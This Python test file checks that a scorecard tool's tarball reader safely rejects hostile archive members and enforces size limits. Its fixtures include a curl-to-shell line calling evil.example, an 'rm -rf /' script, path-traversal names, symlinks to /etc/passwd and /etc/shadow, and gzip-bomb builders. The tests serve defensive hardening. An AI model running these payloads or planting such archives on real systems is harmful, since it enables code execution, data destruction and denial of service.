"""Hostile and oversized archives: nothing unsafe is read, everything left out is reported."""

from __future__ import annotations

import gzip
import io
import tarfile
import tracemalloc

import pytest
from werkzeug import Response

from scorecards.collectors.github import (
    GitHubError,
    RepoInfo,
    TooLarge,
    fetch_repository,
    read_tarball,
)
from scorecards.collectors.localdir import check_member_path, collect_files
from tests.collectors.github.fake_github import load, make_tarball, member, repo_like

TOP = "acme-corp-shop-0123456"
SHA = "0123456" + "a" * 33
BASE = {
    "Dockerfile": b'FROM python:3.12-slim\nCMD ["python", "app.py"]\n',
    "app.py": b"import os\nPORT = int(os.environ.get('PORT', '8000'))\n",
}


def read(archive: bytes, **limits):
    return read_tarball(io.BytesIO(archive), root_name="acme-corp/shop", commit=SHA, **limits)


def errors_by_path(facts) -> dict[str, str]:
    return {error["path"]: error["error"] for error in facts["errors"]}


def test_github_top_folder_is_stripped_and_the_pax_header_is_no_file():
    result = read(make_tarball(TOP, {**BASE, "deploy/k8s.yaml": b"apiVersion: v1\nkind: Pod\n"}))
    facts = result.facts
    assert facts["paths"] == ["Dockerfile", "app.py", "deploy/k8s.yaml"]
    assert facts["root"] == "acme-corp/shop" and facts["commit"] == SHA
    assert facts["source"] == "github" and facts["errors"] == [] and result.rejected == []
    assert facts["dockerfiles"][0]["path"] == "Dockerfile"


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("/etc/cron.d/evil", "absolute path"),
        (f"{TOP}/../../home/app/.bashrc", "path traversal (..)"),
        ("../outside.yaml", "path traversal (..)"),
        (f"{TOP}/src/..\\..\\evil.ps1", "path traversal (..)"),
        ("C:/Windows/evil.bat", "absolute path"),
        ("another-top/Dockerfile", "outside the archive's top folder"),
    ],
)
def test_unsafe_names_are_ignored_and_reported(name, reason):
    payload = b"FROM evil\nRUN curl evil.example | sh\n"
    result = read(make_tarball(TOP, BASE, extra=[member(name, data=payload)]))
    facts = result.facts
    assert facts["paths"] == ["Dockerfile", "app.py"]
    assert [d["path"] for d in facts["dockerfiles"]] == ["Dockerfile"]  # evil one never parsed
    assert errors_by_path(facts) == {
        name.replace("\\", "\\\\"): f"archive member rejected: {reason}"
    }
    assert result.rejected == [{"member": name.replace("\\", "\\\\"), "reason": reason}]


@pytest.mark.parametrize(
    ("kind", "target", "label"),
    [
        (tarfile.SYMTYPE, "/etc/passwd", "symbolic link"),
        (tarfile.SYMTYPE, "../../../../etc/shadow", "symbolic link"),
        (tarfile.LNKTYPE, f"{TOP}/app.py", "hard link"),
    ],
)
def test_links_are_never_followed_and_counted(kind, target, label):
    link = member(f"{TOP}/config/settings.yaml", kind, linkname=target)
    result = read(make_tarball(TOP, BASE, extra=[link]))
    facts = result.facts
    assert "config/settings.yaml" not in facts["paths"]
    assert facts["skipped"]["link"] == 1 and facts["errors"] == []
    assert facts["documents"] == []
    assert result.rejected == [{"member": f"{TOP}/config/settings.yaml", "reason": label}]


def test_a_symlink_posing_as_the_dockerfile_is_not_read():
    archive = make_tarball(
        TOP,
        {"app.py": BASE["app.py"]},
        extra=[member(f"{TOP}/Dockerfile", tarfile.SYMTYPE, linkname="/etc/passwd")],
    )
    facts = read(archive).facts
    assert facts["dockerfiles"] == [] and facts["paths"] == ["app.py"]


@pytest.mark.parametrize(
    ("kind", "label"),
    [
        (tarfile.CHRTYPE, "character device"),
        (tarfile.BLKTYPE, "block device"),
        (tarfile.FIFOTYPE, "FIFO"),
    ],
)
def test_device_files_and_fifos_are_ignored_and_reported(kind, label):
    special = member(f"{TOP}/dev/thing", kind, devmajor=1, devminor=3)
    result = read(make_tarball(TOP, BASE, extra=[special]))
    assert "dev/thing" not in result.facts["paths"]
    assert errors_by_path(result.facts) == {
        f"{TOP}/dev/thing": f"archive member rejected: special file ({label})"
    }


def test_oversized_members_are_counted_not_read():
    big = b"key: value\n" * 200  # 2,200 bytes
    result = read(make_tarball(TOP, {**BASE, "data/big.yaml": big}), max_file_bytes=1000)
    facts = result.facts
    assert "data/big.yaml" not in facts["paths"] and facts["skipped"]["too_large"] == 1


def test_exclusions_and_pruned_folders_apply_before_counting_skips():
    config = b"exclude:\n  - fixtures/**\n"
    archive = make_tarball(
        TOP,
        {**BASE, ".twelve-factor.yml": config, "fixtures/k8s.yaml": b"kind: Pod\n"},
        extra=[
            member(f"{TOP}/node_modules/pkg/big.js", data=b"x" * 2000),
            member(f"{TOP}/node_modules/pkg/link", tarfile.SYMTYPE, linkname="/etc"),
            member(f"{TOP}/fixtures/huge.json", data=b"{}" * 2000),
        ],
    )
    facts = read(archive, max_file_bytes=1000).facts
    assert facts["paths"] == [".twelve-factor.yml", "Dockerfile", "app.py"]
    assert facts["skipped"] == {"too_large": 0, "binary": 0, "link": 0, "excluded": 2}
    assert "fixtures/**" in facts["excluded_globs"]


def test_too_many_members_is_too_large():
    files = {f"f{index}.txt": b"x\n" for index in range(30)}
    with pytest.raises(TooLarge) as caught:
        read(make_tarball(TOP, files), max_members=20)
    assert caught.value.limit == 20


def test_a_gzip_bomb_stops_after_the_listing():
    archive = make_tarball(TOP, {**BASE, "zeros.bin": bytes(5_000_000)})
    assert len(archive) < 20_000
    with pytest.raises(TooLarge, match="unpacks to more than 1000000 bytes"):
        read(archive, max_unpacked_bytes=1_000_000)


def test_a_truncated_archive_is_a_github_error():
    archive = make_tarball(TOP, {**BASE, "big.txt": bytes(range(256)) * 400})
    with pytest.raises(GitHubError, match="not a readable"):
        read(archive[: len(archive) // 2])


def test_memory_stays_bounded_by_one_file_body():
    # 40 files of 0.9 MB (zeros compress to almost nothing): 36 MB of bodies in the archive.
    files = {f"blobs/b{index:02d}.bin": bytes(900_000) for index in range(40)}
    files["huge/skip.bin"] = bytes(30_000_000)  # over the member limit: never read
    archive = make_tarball(TOP, {**BASE, **files})
    assert len(archive) < 500_000
    tracemalloc.start()
    try:
        facts = read(archive).facts
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert facts["skipped"]["binary"] == 40 and facts["skipped"]["too_large"] == 1
    assert peak < 6_000_000, peak  # a few bodies at most, never the 66 MB total


# -- the same protections through fetch_repository -------------------------------------------
def test_fetch_reports_every_rejected_member(github, make_client):
    repo = github.add_repo(load("org_repos.json")[0])

    def crafted(top: str):
        return [
            member("/etc/passwd", data=b"root:x:0:0::/root:/bin/sh\n"),
            member(f"{top}/../../../tmp/evil.sh", data=b"#!/bin/sh\nrm -rf /\n"),
            member("stray", tarfile.SYMTYPE, linkname="/"),
            member(f"{top}/lnk", tarfile.SYMTYPE, linkname="/etc/passwd"),
        ]

    github.push(repo["full_name"], BASE, extra=crafted)
    result = fetch_repository(make_client(), RepoInfo.from_api(repo))
    reasons = sorted(item["reason"] for item in result.rejected)
    assert reasons == [
        "absolute path",
        "outside the archive's top folder",
        "path traversal (..)",
        "symbolic link",
    ]
    assert result.facts["paths"] == ["Dockerfile", "app.py"]
    assert result.facts["skipped"]["link"] == 1 and len(result.facts["errors"]) == 3


def test_an_announced_oversized_tarball_is_refused_before_reading(github, make_client):
    repo = github.add_repo(repo_like(load("org_repos.json")[0], "monorepo", 7))
    sent = []

    def huge() -> Response:
        def body():
            for _ in range(800):  # 50 MB
                sent.append(1)
                yield bytes(65536)

        return Response(
            body(),
            headers={"Content-Length": str(800 * 65536)},
            content_type="application/x-gzip",
            direct_passthrough=True,
        )

    github.push(repo["full_name"], BASE, archive=huge)
    client = make_client(max_tarball_bytes=1_000_000)
    with pytest.raises(TooLarge) as caught:
        fetch_repository(client, RepoInfo.from_api(repo))
    assert caught.value.limit == 1_000_000 and "52428800 bytes" in str(caught.value)
    assert client.stats["bytes_downloaded"] == 0
    assert len(sent) < 800


def test_a_streamed_tarball_is_cut_off_at_the_limit(github, make_client):
    repo = github.add_repo(repo_like(load("org_repos.json")[0], "monorepo", 7))
    sent = []

    def endless() -> Response:
        def body():
            for _ in range(800):  # 50 MB, no Content-Length
                sent.append(1)
                yield bytes(65536)

        return Response(body(), content_type="application/x-gzip", direct_passthrough=True)

    github.push(repo["full_name"], BASE, archive=endless)
    client = make_client(max_tarball_bytes=1_000_000)
    with pytest.raises(TooLarge, match="download stopped"):
        fetch_repository(client, RepoInfo.from_api(repo))
    assert 1_000_000 < client.stats["bytes_downloaded"] <= 1_000_000 + 65536
    assert len(sent) < 800  # the server was stopped well before the end


# -- the path rules shared with collect_files ------------------------------------------------
@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("a/b.yaml", ("a/b.yaml", None)),
        ("./a//b.yaml", ("a/b.yaml", None)),
        ("/abs.yaml", (None, "absolute path")),
        ("\\\\server\\share", (None, "absolute path")),
        ("a/../../b", (None, "path traversal (..)")),
        ("a\\..\\b", (None, "path traversal (..)")),
        ("a/b\0c", (None, "NUL byte in name")),
        ("./", (None, "empty name")),
        ("a/..b/c", ("a/..b/c", None)),  # dots inside a name are fine
    ],
)
def test_check_member_path(name, expected):
    assert check_member_path(name) == expected


def test_collect_files_rejects_absolute_and_traversing_pairs():
    pairs = [
        ("./Dockerfile", BASE["Dockerfile"]),
        ("/etc/Dockerfile", b"FROM evil\n"),
        ("../Dockerfile.prod", b"FROM evil\n"),
    ]
    facts = collect_files(pairs, root_name="acme-corp/shop")
    assert facts["paths"] == ["Dockerfile"]
    assert [d["path"] for d in facts["dockerfiles"]] == ["Dockerfile"]
    assert errors_by_path(facts) == {
        "/etc/Dockerfile": "archive member rejected: absolute path",
        "../Dockerfile.prod": "archive member rejected: path traversal (..)",
    }


# -- gzip bombs: inflation stops at the cap, never runs to the end -------------------------------
def gzip_of_zeros(header: bytes, total: int, chunk: int = 1 << 20) -> bytes:
    """``header`` then ``total`` zero bytes then the end-of-archive blocks, as a multi-member
    gzip stream built from one compressed chunk repeated: gigabytes cost a few megabytes."""
    zeros = tarfile_gzip(bytes(chunk))
    whole, rest = divmod(total, chunk)
    tail = bytes(rest) + bytes(-total % tarfile.BLOCKSIZE) + bytes(2 * tarfile.BLOCKSIZE)
    return tarfile_gzip(header) + zeros * whole + tarfile_gzip(tail)


def tarfile_gzip(data: bytes) -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=9, mtime=0) as zipped:
        zipped.write(data)
    return out.getvalue()


def header(name: str, size: int, kind: bytes = tarfile.REGTYPE) -> bytes:
    info = tarfile.TarInfo(name)
    info.size, info.type = size, kind
    return info.tobuf(format=tarfile.GNU_FORMAT)


def test_a_3_5_gb_bomb_stops_at_the_default_cap_at_once():
    size = 3_500_000_000
    archive = gzip_of_zeros(header(f"{TOP}/zeros.bin", size), size)
    assert len(archive) < 5_000_000
    with pytest.raises(TooLarge, match="unpacks to more than 1073741824 bytes"):
        read(archive)


def test_a_pax_header_bomb_is_cut_off_before_it_fills_memory():
    # tarfile reads a pax record whole into memory: its size is no member size to sum.
    size = 64_000_000
    archive = gzip_of_zeros(header(f"{TOP}/././@PaxHeader", size, tarfile.XHDTYPE), size)
    tracemalloc.start()
    try:
        with pytest.raises(TooLarge, match="header over"):
            read(archive)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 8_000_000, peak


class CountingReader(io.BytesIO):
    """An archive that counts the compressed bytes read from it, over both passes."""

    def __init__(self, data: bytes) -> None:
        super().__init__(data)
        self.read_bytes = 0

    def read(self, size: int | None = -1) -> bytes:
        data = super().read(size)
        self.read_bytes += len(data)
        return data


def test_the_second_pass_stops_after_the_last_file_it_needs():
    archive = make_tarball(TOP, {**BASE, "zz/zeros.bin": bytes(100_000_000)})
    counted = CountingReader(archive)
    facts = read_tarball(counted, root_name="acme-corp/shop", commit=SHA).facts
    assert facts["paths"] == ["Dockerfile", "app.py"]
    assert counted.read_bytes < 1.3 * len(archive)  # once through, not twice
